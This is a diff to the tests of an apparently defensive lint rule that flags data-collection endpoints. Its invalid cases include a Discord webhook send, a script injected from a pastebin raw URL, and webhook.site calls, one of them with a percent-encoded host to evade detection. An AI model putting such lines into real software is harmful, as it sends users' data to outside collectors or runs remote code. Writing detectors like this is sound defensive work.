@@ -71,6 +71,7 @@ await ruleTester(rule, {
     { code: 'import { createOpenAI } from "@ai-sdk/openai"; createOpenAI({ baseURL: "http://192.168.0.3:8080/v1" });' },
   ],
   invalid: [
+    { code: 'import { WebhookClient } from "discord.js"; new WebhookClient({ url: "https://discord.com/api/webhooks/1/abc" }).send("hi");', errors: [{ messageId: 'collection' }] },
     { code: "const script = document.createElement('script'); script['src'] = 'https://pastebin.com/raw/x';", errors: [{ messageId: 'collection' }] },
     { code: "window.open('https://webhook.site/x');", errors: [{ messageId: 'collection' }] },
     { code: "fetch('https://%77ebhook.site/x');", errors: [{ messageId: 'collection' }] },
